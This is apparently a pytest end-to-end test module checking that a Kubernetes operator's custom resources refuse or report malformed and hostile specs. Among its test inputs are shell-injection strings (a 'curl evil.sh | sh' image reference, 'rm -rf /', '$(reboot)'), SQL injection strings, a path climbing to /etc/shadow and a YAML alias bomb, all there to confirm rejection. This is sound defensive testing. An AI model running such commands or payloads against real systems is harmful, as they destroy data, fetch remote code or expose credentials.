"""Bad input through kubectl (docs/design.md rule 9): malformed and hostile specs applied to a real
API server while `continuum operator` runs.

Each case is one of two kinds. `Refused`: the API server (the CRD's schema and CEL rules, or its
own checks of names, labels and sizes) or kubectl refuses it, and the message names the field and
says what would pass. `Reported`: the schema admits it, and the operator says in the object's
status what is wrong and what to do (a condition with a reason and a message). Meanwhile the
operator never crashes: its process lives, its log holds no traceback and no write the API server
refused, and a good Engine and Mind applied after all of it are planned and granted.

The operator is launched as the grants tests launch it (tests/support/grants_operator.py: the
grants loop writes the Minds' projections); its Engines are those labelled with this module's run
label.
"""

from __future__ import annotations

import copy
import json
import subprocess
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from continuum_operator import yaml_text
from tests.support.cluster import Cluster
from tests.support.crds import crds
from tests.support.engine_status import condition
from tests.support.grant_ledger import grant_of
from tests.support.grants_operator import check_log, start_operator
from tests.support.kwok_nodes import fresh_gpu_node
from tests.support.mind_specs import engine, mind, mind_class
from tests.support.operator_process import stop
from tests.support.waiting import wait_for

pytestmark = pytest.mark.e2e

__all__ = ["crds"]  # a fixture, used by name

RUN = uuid.uuid4().hex[:8]
LABEL = ("continuum.dev/e2e-hostile", RUN)
TAG = f"h{RUN}"  # the nodeSelector value of this module's node
API = "continuum.dev/v1alpha1"
FACTS = {"layers": 4, "layerBytes": 4 * 2**20, "inputBytes": 2**20, "kvBytesPerTokenPerLayer": 1024}


# --------------------------------------------------------------------------------------------
# builders: a good object of each kind, then the one thing wrong with it


def good_engine(name: str = "e") -> dict[str, Any]:
    return engine(name, TAG, LABEL)


def with_spec(body: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A copy of `body` with the field at `path` (`spec.model.facts.layers`) set to `value`."""
    out = copy.deepcopy(body)
    node = out
    *parents, last = path.split(".")
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = value
    return out


def bad_engine(path: str, value: Any, name: str = "e") -> dict[str, Any]:
    return with_spec(good_engine(name), path, value)


def sourced_engine(name: str, source: dict[str, Any]) -> dict[str, Any]:
    body = good_engine(name)
    body["spec"]["model"] = {"source": source}
    return body


def bad_mind(name: str = "m", **spec: Any) -> dict[str, Any]:
    body = mind(name, "standard")
    body["spec"].update(spec)
    return body


def lane(name: str, **spec: Any) -> dict[str, Any]:
    return {"apiVersion": API, "kind": "EmbedLane", "metadata": {"name": name}, "spec": spec}


def bad_class(**spec: Any) -> dict[str, Any]:
    body = mind_class(f"hostile-{RUN}", 0)
    body["spec"].update(spec)
    return body


# --------------------------------------------------------------------------------------------
# the cases


@dataclass(frozen=True)
class Refused:
    """Refused before it is stored; `says` are parts of the message, field path first."""

    id: str
    manifest: str | dict[str, Any]
    says: tuple[str, ...]
    raw: bool = False  # sent as the request body to the Engines collection, not by apply


@dataclass(frozen=True)
class Reported:
    """Stored, and then said in status: `condition` of `kind`/`name` is `status` with `reason`,
    and its message holds each of `says`."""

    id: str
    manifest: list[dict[str, Any]]
    kind: str
    name: str
    condition: str
    status: str
    reason: str
    says: tuple[str, ...] = field(default=())
    elsewhere: tuple[dict[str, Any], ...] = ()  # applied first, in the module's other namespace


LONG = "x" * 5000
# Nine to the eighth "lol"s from a few hundred bytes: the parser must refuse, not expand.
_ALIAS_BOMB = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)
)
REFUSED = [
    # sizes: negative, zero, beyond any machine
    Refused(
        "engine-negative-context",
        bad_engine("spec.contextTokensPerMind", -5),
        ("spec.contextTokensPerMind", "greater than or equal to 16"),
    ),
    Refused(
        "engine-context-beyond-any-model",
        bad_engine("spec.contextTokensPerMind", 10**12),
        ("spec.contextTokensPerMind", "less than or equal to 16777216"),
    ),
    Refused(
        "engine-negative-reserve",
        bad_engine("spec.reserveBytes", -1),
        ("spec.reserveBytes", "greater than or equal to 0"),
    ),
    Refused(
        "engine-zero-minds",
        bad_engine("spec.minds", {"min": 1, "max": 0}),
        ("spec.minds.max", "greater than or equal to 1"),
    ),
    Refused(
        "engine-minds-min-above-max",
        bad_engine("spec.minds", {"min": 8, "max": 2}),
        ("spec.minds", "minds.min must not exceed minds.max"),
    ),
    Refused(
        "engine-a-thousand-gpus",
        bad_engine("spec.placement.gpus", 1000),
        ("spec.placement.gpus", "less than or equal to 64"),
    ),
    Refused(
        "engine-zero-layers",
        bad_engine("spec.model.facts.layers", 0),
        ("spec.model.facts.layers", "greater than or equal to 1"),
    ),
    Refused(
        "engine-more-layers-than-any-model",
        bad_engine("spec.model.facts.layers", 100_000),
        ("spec.model.facts.layers", "less than or equal to 4096"),
    ),
    # bad enums and words
    Refused(
        "engine-offload-unknown-word",
        bad_engine("spec.offload", "most"),
        ("spec.offload", "offload is auto, all, none or a number of layers"),
    ),
    Refused(
        "engine-offload-negative-layers",
        bad_engine("spec.offload", -3),
        ("spec.offload", "offload is auto, all, none or a number of layers"),
    ),
    Refused(
        "engine-unknown-kv-cache-type",
        bad_engine("spec.kvCacheType", "q3_k"),
        ("spec.kvCacheType", 'supported values: "f32", "f16", "q8_0", "q4_0"'),
    ),
    Refused(
        "engine-unknown-source-kind",
        sourced_engine("e", {"kind": "s3", "path": "/m.gguf"}),
        ("spec.model.source.kind", 'supported values: "pvc", "hostPath", "image"'),
    ),
    # unknown fields, wrong types, missing and empty required fields
    Refused(
        "engine-misspelled-field",
        bad_engine("spec.contextTokenPerMind", 512),
        ('unknown field "spec.contextTokenPerMind"',),
    ),
    Refused(
        "engine-wrong-type",
        bad_engine("spec.contextTokensPerMind", "lots"),
        ("spec.contextTokensPerMind", "must be of type integer"),
    ),
    Refused(
        "engine-spec-not-an-object",
        with_spec(good_engine(), "spec", "serve everything"),
        ("spec", "must be of type object"),
    ),
    Refused(
        "engine-without-spec",
        {k: v for k, v in good_engine().items() if k != "spec"},
        ("spec: Required value",),
    ),
    Refused(
        "engine-empty-model",
        bad_engine("spec.model", {}),
        ("spec.model", "give the model's facts inline, or a source to read them from"),
    ),
    Refused(
        "engine-empty-source-path",
        sourced_engine("e", {"kind": "hostPath", "path": ""}),
        ("spec.model.source.path", "at least 1 chars long"),
    ),
    Refused(
        "engine-pvc-source-without-claim",
        sourced_engine("e", {"kind": "pvc", "path": "m.gguf"}),
        ("spec.model.source", "a pvc source names its PersistentVolumeClaim in claimName"),
    ),
    Refused(
        "engine-relative-host-path",
        sourced_engine("e", {"kind": "hostPath", "path": "models/m.gguf"}),
        ("spec.model.source", "a hostPath source's path is absolute"),
    ),
    Refused(
        "engine-host-path-climbing-out",
        sourced_engine("e", {"kind": "hostPath", "path": "/models/../etc/shadow"}),
        ("spec.model.source", "path has a '..' segment"),
    ),
    Refused(
        "engine-short-sha256",
        bad_engine("spec.model.sha256", "abc123"),
        ("spec.model.sha256", "should match '^[0-9a-f]{64}$'"),
    ),
    # names: too long for the Service named after it, dotted, not a name at all
    Refused(
        "engine-name-too-long-for-its-service",
        good_engine("e" * 64),
        ("metadata.name", "may not be more than 63 bytes"),
    ),
    Refused(
        "engine-dotted-name",
        good_engine("coder.v2"),
        ("metadata.name", "should match '^[a-z]([-a-z0-9]*[a-z0-9])?$'"),
    ),
    Refused(
        "lane-name-too-long-for-its-labels",
        lane("l" * 64, engine="e", maxContextTokens=512),
        ("metadata.name", "may not be more than 63 bytes"),
    ),
    # huge lists and strings
    Refused(
        "engine-huge-source-path",
        sourced_engine("e", {"kind": "hostPath", "path": "/" + LONG}),
        ("spec.model.source.path", "may not be more than 4096"),
    ),
    Refused(
        "engine-huge-architecture",
        bad_engine("spec.model.facts.architecture", LONG),
        ("spec.model.facts.architecture", "may not be more than 64"),
    ),
    Refused(
        "engine-huge-namespace-list",
        bad_engine("spec.allowedNamespaces", [f"ns-{i}" for i in range(2000)]),
        ("spec.allowedNamespaces", "must have at most 1024 items"),
    ),
    Refused(
        "engine-huge-node-selector",
        bad_engine("spec.placement.nodeSelector", {f"k{i}": "v" for i in range(100)}),
        ("spec.placement.nodeSelector", "must have at most 64 items"),
    ),
    Refused(
        "engine-annotations-beyond-the-api-limit",
        with_spec(good_engine(), "metadata.annotations", {"note": "x" * 300_000}),
        ("metadata.annotations", "may not be more than 262144 bytes"),
    ),
    # injection-looking strings
    Refused(
        "engine-node-selector-key-injection",
        bad_engine("spec.placement.nodeSelector", {"a b; rm -rf /": "x"}),
        ("spec.placement.nodeSelector", "nodeSelector keys are label keys"),
    ),
    Refused(
        "engine-node-selector-value-injection",
        bad_engine("spec.placement.nodeSelector", {"e2e-tag": "$(reboot)"}),
        ("spec.placement.nodeSelector.e2e-tag", "should match"),
    ),
    Refused(
        "engine-node-pool-injection",
        bad_engine("spec.placement.nodePool", "'; DROP TABLE nodes; --"),
        ("spec.placement.nodePool", "should match"),
    ),
    Refused(
        "engine-label-injection",
        with_spec(good_engine(), "metadata.labels", {"team": "a; rm -rf /"}),
        ("metadata.labels", "a valid label must be an empty string or consist of alphanumeric"),
    ),
    Refused(
        "engine-source-path-with-a-nul-and-a-newline",
        sourced_engine("e", {"kind": "hostPath", "path": "/models/m\x00\n--rm.gguf"}),
        ("spec.model.source.path", "should match"),
    ),
    Refused(
        "engine-image-reference-injection",
        sourced_engine("e", {"kind": "image", "image": "x; curl evil.sh | sh", "path": "/m"}),
        ("spec.model.source.image", "should match"),
    ),
    Refused(
        "mind-class-name-injection",
        bad_mind(className="gold' OR '1'='1"),
        ("spec.className", "should match"),
    ),
    Refused(
        "engine-unicode-name",
        good_engine("modèle"),
        ("metadata.name", "Invalid value"),
    ),
    Refused(
        "mind-engine-name-injection",
        bad_mind(engine="coder; DROP TABLE minds"),
        ("spec.engine", "should match"),
    ),
    Refused(
        "engine-allowed-namespace-injection",
        bad_engine("spec.allowedNamespaces", ["team-a", "' OR 1=1 --"]),
        ("spec.allowedNamespaces[1]", "should match"),
    ),
    Refused(
        "mind-engine-namespace-injection",
        bad_mind(engineNamespace="kube-system; rm -rf /"),
        ("spec.engineNamespace", "should match"),
    ),
    Refused(
        "mindclass-huge-namespace-list",
        bad_class(allowedNamespaces=[f"ns-{i}" for i in range(2000)]),
        ("spec.allowedNamespaces", "must have at most 1024 items"),
    ),
    Refused(
        "tokenquota-negative",
        {
            "apiVersion": API,
            "kind": "TokenQuota",
            "metadata": {"name": "q"},
            "spec": {"maxTokens": -1},
        },
        ("spec.maxTokens", "greater than or equal to 0"),
    ),
    # YAML that is not an object, or not a kind the server knows
    Refused("yaml-scalar", "just a sentence\n", ("invalid object to validate",)),
    Refused(
        "yaml-alias-bomb",
        _ALIAS_BOMB,
        ("excessive aliasing",),
    ),
    Refused(
        "yaml-name-read-as-a-boolean",
        f"apiVersion: {API}\nkind: Engine\nmetadata: {{name: off}}\nspec: {{}}\n",
        ("cannot unmarshal bool", "metadata.name of type string"),
    ),
    Refused(
        "json-array-to-the-api-server",
        json.dumps([good_engine()]),
        ("must be of type Engine", "cannot unmarshal array"),
        raw=True,
    ),
    Refused(
        "engine-of-an-unserved-version",
        {**good_engine(), "apiVersion": "continuum.dev/v9"},
        ('no matches for kind "Engine" in version "continuum.dev/v9"', "ensure CRDs are installed"),
    ),
    # Minds, classes and lanes
    Refused(
        "mind-zero-context",
        bad_mind(contextTokens=0),
        ("spec.contextTokens", "greater than or equal to 1"),
    ),
    Refused(
        "mind-without-engine",
        {**bad_mind(), "spec": {"contextTokens": 256}},
        ("spec.engine: Required value",),
    ),
    Refused(
        "mind-negative-turn-deadline",
        bad_mind(turnDeadlineSeconds=-1),
        ("spec.turnDeadlineSeconds", "greater than or equal to 1"),
    ),
    Refused(
        "mindclass-absurd-priority",
        bad_class(priority=10**12),
        ("spec.priority", "less than or equal to 1000000"),
    ),
    Refused(
        "mindclass-absurdly-low-priority",
        bad_class(priority=-(10**12)),
        ("spec.priority", "greater than or equal to -1000000"),
    ),
    Refused(
        "mindclass-zero-max-tokens",
        bad_class(maxTokens=0),
        ("spec.maxTokens", "greater than or equal to 1"),
    ),
    Refused(
        "lane-with-engine-and-model",
        lane("l", engine="e", model={"facts": FACTS}, maxContextTokens=512),
        ("spec", "an EmbedLane names exactly one of engine or model"),
    ),
    Refused(
        "lane-zero-context",
        lane("l", engine="e", maxContextTokens=0),
        ("spec.maxContextTokens", "greater than or equal to 1"),
    ),
]


def _too_large_a_lane() -> dict[str, Any]:
    facts = {**FACTS, "layers": 64, "layerBytes": 4 * 2**30, "kvBytesPerTokenPerLayer": 2**20}
    return lane("vast", model={"facts": facts}, maxContextTokens=16_777_216)


REPORTED = [
    Reported(
        "engine-layer-bytes-a-word",
        [bad_engine("spec.model.facts.layerBytes", "lots", "word")],
        "engine",
        "word",
        "Planned",
        "False",
        "InvalidSpec",
        ("spec.model.facts.layerBytes:", "valid integer", "valid array"),
    ),
    Reported(
        "engine-layer-list-of-the-wrong-length",
        [bad_engine("spec.model.facts.layerBytes", list(range(5000)), "longlist")],
        "engine",
        "longlist",
        "Planned",
        "False",
        "InvalidSpec",
        ("spec.model.facts.layerBytes:", "give one number for all layers or one per layer"),
    ),
    Reported(
        "engine-negative-size-in-a-layer-list",
        [bad_engine("spec.model.facts.kvBytesPerTokenPerLayer", [1, -2, 3, 4], "negkv")],
        "engine",
        "negkv",
        "Planned",
        "False",
        "InvalidSpec",
        ("spec.model.facts.kvBytesPerTokenPerLayer:", "entry [1] is -2"),
    ),
    Reported(
        "engine-window-layer-beyond-the-model",
        [
            bad_engine(
                "spec.model.facts",
                {**FACTS, "slidingWindow": 256, "slidingWindowLayers": [1, 99]},
                "windowed",
            )
        ],
        "engine",
        "windowed",
        "Planned",
        "False",
        "InvalidSpec",
        ("spec.model.facts:", "slidingWindowLayers lists layer 99 but the model has 4"),
    ),
    Reported(
        "engine-nobody-can-place",
        [
            with_spec(
                bad_engine("spec.contextTokensPerMind", 16_777_216, "huge"),
                "spec.minds",
                {"min": 64, "max": 64},
            )
        ],
        "engine",
        "huge",
        "Unschedulable",
        "True",
        "InsufficientMemory",
        ("no node has room", "Lower spec.minds.min"),
    ),
    Reported(
        "engine-asking-more-gpus-than-any-node-has",
        [bad_engine("spec.placement.gpus", 64, "greedy-gpus")],
        "engine",
        "greedy-gpus",
        "Unschedulable",
        "True",
        "InsufficientMemory",
        ("spec.placement.gpus asks for 64 GPUs", "has 1"),
    ),
    Reported(
        "engine-reserve-larger-than-any-pool",
        [bad_engine("spec.reserveBytes", 2**62, "hoarder")],
        "engine",
        "hoarder",
        "Unschedulable",
        "True",
        "InsufficientMemory",
        ("Lower spec.reserveBytes",),
    ),
    Reported(
        "engine-on-no-matching-node",
        [bad_engine("spec.placement.nodeSelector", {"e2e-tag": "nowhere"}, "lost")],
        "engine",
        "lost",
        "Unschedulable",
        "True",
        "NoMatchingNode",
        ("matches spec.placement",),
    ),
    # KWOK runs the facts Job to completion without reading any file: the operator finds no
    # facts where the real Job would have failed; either way it says to check the source.
    Reported(
        "engine-model-file-that-does-not-exist",
        [sourced_engine("nofile", {"kind": "hostPath", "path": "/models/no-such-file.gguf"})],
        "engine",
        "nofile",
        "Planned",
        "False",
        "FactsMissing",
        ("nofile-facts-", "check spec.model.source", "continuum facts MODEL.gguf"),
    ),
    Reported(
        "lane-beside-a-missing-engine",
        [lane("lonely", engine="nowhere", maxContextTokens=512)],
        "embedlane",
        "lonely",
        "Placed",
        "False",
        "EngineNotFound",
        ("nowhere not found", "spec.engine"),
    ),
    Reported(
        "lane-larger-than-any-pool",
        [_too_large_a_lane()],
        "embedlane",
        "vast",
        "Placed",
        "False",
        "InsufficientMemory",
        ("can never hold it", "lower spec.maxContextTokens"),
    ),
    Reported(
        "mind-whose-context-exceeds-her-engines-slot",
        [good_engine("slotted"), bad_mind("greedy", engine="slotted", contextTokens=100_000)],
        "mind",
        "greedy",
        "ContextTooLarge",
        "True",
        "ContextTooLarge",
        ("asks 100000 tokens", "holds 512", "lower spec.contextTokens"),
    ),
    Reported(
        "mind-naming-a-class-that-does-not-exist",
        [good_engine("slotted"), bad_mind("classless", engine="slotted", className="no-such")],
        "mind",
        "classless",
        "Granted",
        "False",
        "ClassNotFound",
        ("MindClass no-such does not exist", "spec.className"),
    ),
    Reported(
        "mind-naming-an-engine-that-does-not-exist",
        [bad_mind("orphan", engine="no-such-engine")],
        "mind",
        "orphan",
        "Granted",
        "False",
        "EngineNotFound",
        ("no-such-engine does not exist", "spec.engine"),
    ),
    # Tenancy (docs/tenancy.md): an Engine of another namespace that does not list hers.
    Reported(
        "mind-naming-an-engine-she-may-not-use",
        [bad_mind("trespasser", engine="private", engineNamespace=f"e2e-hostile-{RUN}-other")],
        "mind",
        "trespasser",
        "Granted",
        "False",
        "EngineNotAllowed",
        ("does not serve namespace", "spec.allowedNamespaces"),
        elsewhere=(bad_engine("spec.placement.nodeSelector", {"e2e-tag": "none"}, "private"),),
    ),
]


# --------------------------------------------------------------------------------------------
# fixtures: one namespace, one node and one operator for the whole module


@dataclass(frozen=True)
class Running:
    proc: subprocess.Popen[bytes]
    log: Path
    workdir: Path


@pytest.fixture(scope="module")
def ns(cluster: Cluster) -> Iterator[str]:
    """The cases' namespace, and `<it>-other` beside it (another tenant's)."""
    name = f"e2e-hostile-{RUN}"
    for each in (name, f"{name}-other"):
        cluster.kubectl("create", "namespace", each)
        cluster.kubectl(
            "wait", "--for=create", "serviceaccount/default", "-n", each, "--timeout=60s"
        )
    yield name
    for each in (name, f"{name}-other"):
        cluster.kubectl("delete", "namespace", each, "--wait=false", check=False)


@pytest.fixture(scope="module")
def running(
    cluster: Cluster,
    crds: None,
    ns: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Running]:
    """The node the cases' engines fit, the MindClass their Minds name, and the operator."""
    workdir = tmp_path_factory.mktemp("hostile")
    fresh_gpu_node(cluster, TAG)
    cluster.apply(mind_class("standard", 0))
    # The cluster admin's model directory: a hostPath source elsewhere is refused before a Job.
    proc = start_operator(cluster, workdir, LABEL, "--allowed-host-path-prefix", "/models")
    try:
        yield Running(proc, workdir / "operator.log", workdir)
    finally:
        stop(proc)
        cluster.kubectl("delete", "mindclass", "standard", "--wait=false", check=False)


def as_text(manifest: str | dict[str, Any] | list[dict[str, Any]]) -> str:
    if isinstance(manifest, str):
        return manifest
    docs = manifest if isinstance(manifest, list) else [manifest]
    return yaml_text.dump_all(docs)


def labelled(doc: dict[str, Any]) -> dict[str, Any]:
    """Engines and EmbedLanes carry the run label, so only this module's operator serves them
    (its `--engine-selector` takes a lane labelled so, or one beside an Engine it serves)."""
    if doc.get("kind") not in ("Engine", "EmbedLane"):
        return doc
    out = copy.deepcopy(doc)
    out["metadata"].setdefault("labels", {}).update(dict([LABEL]))
    return out


def alive_and_clean(r: Running) -> None:
    """The operator still runs; its log shows no traceback and no write the API server refused
    (an object the operator built from a spec that the CRD had let through)."""
    assert r.proc.poll() is None, r.log.read_text()[-3000:]
    text = r.log.read_text()
    assert "Traceback" not in text, text[-3000:]
    assert " 422 " not in text, [ln for ln in text.splitlines() if " 422 " in ln][:3]
    assert "reconcile pass failed" not in text


# --------------------------------------------------------------------------------------------
# tests


@pytest.mark.parametrize("case", REFUSED, ids=lambda c: c.id)
def test_a_hostile_spec_is_refused_with_a_message_naming_the_field(
    cluster: Cluster, running: Running, ns: str, case: Refused
) -> None:
    if case.raw:
        path = running.workdir / f"{case.id}.json"
        path.write_text(as_text(case.manifest))
        url = f"/apis/{API}/namespaces/{ns}/engines"
        answer = cluster.kubectl("create", "--raw", url, "-f", str(path), check=False)
    else:
        text = as_text(case.manifest)
        answer = cluster.kubectl("apply", "-n", ns, "-f", "-", input=text, check=False)
    assert answer.returncode != 0, answer.stdout
    for part in case.says:
        assert part in answer.stderr, answer.stderr[:2000]
    # Nothing of it was stored.
    kinds = "engines,minds,embedlanes"
    stored = cluster.get_json(kinds, "-n", ns)["items"]
    names = {(o["kind"], o["metadata"]["name"]) for o in stored}
    assert ("Engine", "e") not in names and ("Mind", "m") not in names
    assert cluster.kubectl("get", "mindclass", f"hostile-{RUN}", check=False).returncode != 0


def _condition_of(cluster: Cluster, ns: str, case: Reported) -> Callable[[], dict[str, Any] | None]:
    def probe() -> dict[str, Any] | None:
        body = cluster.get_json(case.kind, case.name, "-n", ns)
        c = condition(body, case.condition)
        if c is None or (c["status"], c["reason"]) != (case.status, case.reason):
            return None
        return c

    return probe


@pytest.mark.parametrize("case", REPORTED, ids=lambda c: c.id)
def test_a_hostile_spec_the_schema_admits_is_reported_in_status_with_what_to_fix(
    cluster: Cluster, running: Running, ns: str, case: Reported
) -> None:
    if case.elsewhere:
        cluster.apply([labelled(d) for d in case.elsewhere], "-n", f"{ns}-other")
    cluster.apply([labelled(d) for d in case.manifest], "-n", ns)
    c = wait_for(
        f"{case.kind} {case.name}: {case.condition}={case.status} ({case.reason})",
        _condition_of(cluster, ns, case),
        timeout=60,
        log=running.log,
    )
    for part in case.says:
        assert part in c["message"], c["message"]
    body = cluster.get_json(case.kind, case.name, "-n", ns)
    assert c.get("observedGeneration") == body["metadata"]["generation"]
    alive_and_clean(running)


def test_after_all_of_it_the_operator_lives_and_a_good_engine_and_mind_are_served(
    cluster: Cluster, running: Running, ns: str
) -> None:
    # A node of its own: the hostile cases may hold the first node's one GPU.
    fresh_gpu_node(cluster, f"{TAG}g")
    good = labelled(engine("coder", f"{TAG}g", LABEL))
    cluster.apply([good, mind("good", "standard")], "-n", ns)

    def planned() -> bool:
        c = condition(cluster.get_json("engine", "coder", "-n", ns), "Planned")
        return c is not None and c["status"] == "True"

    wait_for("the good Engine planned", planned, log=running.log)
    wait_for(
        "the good Mind granted",
        lambda: grant_of(cluster, ns, "good").get("state") == "Granted",
        log=running.log,
    )
    alive_and_clean(running)
    checked = check_log(running.workdir / "transitions.jsonl")
    assert checked.returncode == 0, checked.stdout + checked.stderr
